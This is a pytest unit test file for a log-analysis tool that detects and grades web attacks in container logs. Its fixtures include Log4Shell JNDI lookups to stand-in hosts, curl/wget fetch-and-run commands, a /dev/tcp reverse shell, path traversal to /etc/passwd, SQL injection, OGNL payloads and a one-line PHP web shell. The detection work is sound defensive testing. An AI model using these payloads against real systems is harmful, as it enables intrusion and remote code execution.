# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Requests in logs: attempts alone, and what makes them more."""

from __future__ import annotations

from pathlib import Path

import pytest

from ansible_collections.cordon.docker.plugins.plugin_utils._analysis import jndi
from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._analysis.build_case import (
    connection,
    file,
    findings_of,
    grades,
    log,
    process,
)

LOOKUP = '"GET / HTTP/1.1" 200 1 "${jndi:ldap://10.6.6.6:1389/a}"'
HIDDEN = '"GET / HTTP/1.1" 200 1 "${${lower:j}ndi:rmi://evil.example/a}"'


def test_a_lookup_alone_is_an_attempt(tmp_path: Path) -> None:
    lines = log("started", LOOKUP, HIDDEN, "GET /?x=${price}")
    found = findings_of(tmp_path, {"logs/hits.jsonl": lines[1:2], "logs/tail.jsonl": lines})
    assert grades(found) == {"jndi-lookup": "medium"}
    assert found[0].sentence == (
        "The log has 2 lines with a JNDI lookup, 1 of them disguised, such as `${jndi:rmi://evil.example/a}`,"
        " for answers from 10.6.6.6 and evil.example: an attempt, unless other signs show that it worked."
    )
    assert [(ref.path.rpartition("/")[2], ref.line) for ref in found[0].evidence] == [
        ("hits.jsonl", 1),
        ("tail.jsonl", 3),
    ]
    assert found[0].technique == "T1190"
    assert found[0].next.endswith(f"'containers=shop regex={jndi.SEARCH} ignore_case=true'")


def test_a_connection_to_the_server_of_the_lookup_shows_that_it_worked(tmp_path: Path) -> None:
    sockets = [connection(5, "10.6.6.6", 1389)]
    found = findings_of(tmp_path, {"logs/tail.jsonl": log(LOOKUP), "sockets.jsonl": sockets})
    assert grades(found) == {"jndi-lookup": "critical"}


def test_a_shell_beside_the_lookup_raises_it(tmp_path: Path) -> None:
    rows = [process(100, 1, "/usr/bin/java", "java"), process(101, 100, "/usr/bin/bash", "bash")]
    found = findings_of(tmp_path, {"logs/tail.jsonl": log(LOOKUP), "processes.jsonl": rows})
    assert grades(found) == {"jndi-lookup": "high", "shell-under-service": "high"}
    assert any("has likely worked" in finding.sentence for finding in found)


REQUESTS = [
    ("GET /x.php?cmd=id HTTP/1.1", "request-command"),
    ("GET /x.php?cmd=cat%20/tmp/x HTTP/1.1", "request-command"),
    ("GET /x?c=whoami&d=1 HTTP/1.1", "request-command"),
    ("GET /?a=;wget+http://e.example/x|sh HTTP/1.1", "request-download"),
    ("GET /?a=curl%20-s%20http://e.example/x%7Cbash HTTP/1.1", "request-download"),
    ("GET /?a=bash+-i+>%26+/dev/tcp/10.0.0.1/4444 HTTP/1.1", "request-reverse-shell"),
    ("GET /../../../../etc/passwd HTTP/1.1", "request-traversal"),
    ("GET /%2e%2e/%2e%2e/%2e%2e/x HTTP/1.1", "request-traversal"),
    ("GET /?id=1+UNION+ALL+SELECT+1,2 HTTP/1.1", "request-injection"),
    ("GET /?x=%{(#_memberAccess=1)} HTTP/1.1", "request-ognl"),
]


@pytest.mark.parametrize(("line", "rule"), REQUESTS)
def test_attempts_are_low(tmp_path: Path, line: str, rule: str) -> None:
    assert grades(findings_of(tmp_path, {"logs/hits.jsonl": log(line)})) == {rule: "low"}


@pytest.mark.parametrize(
    "line",
    [
        "GET /?q=cats HTTP/1.1",
        "GET /?code=ide HTTP/1.1",
        "GET /catalog?cmd=list HTTP/1.1",
        "curl/7.88.1 asked for the union of selected shells",
        "user id=5 or 11",
    ],
)
def test_ordinary_requests_are_none(tmp_path: Path, line: str) -> None:
    assert findings_of(tmp_path, {"logs/hits.jsonl": log(line), "logs/tail.jsonl": log(line)}) == []


def test_commands_beside_a_web_shell_are_raised(tmp_path: Path) -> None:
    shell = file("/var/www/html/s.php", code="php", head="<?php system($_GET['cmd']);")
    lines = log('"GET /s.php?cmd=id HTTP/1.1" 200 1')
    found = findings_of(tmp_path, {"logs/hits.jsonl": lines, "layer.jsonl": [shell]})
    assert grades(found) == {"web-shell": "critical", "request-command": "medium"}


def test_lines_that_both_items_have_count_once(tmp_path: Path) -> None:
    lines = log(*[LOOKUP] * 30)
    found = findings_of(tmp_path, {"logs/hits.jsonl": lines, "logs/tail.jsonl": lines})
    assert found[0].sentence.startswith("The log has 30 lines")
    assert len(found[0].evidence) == 20
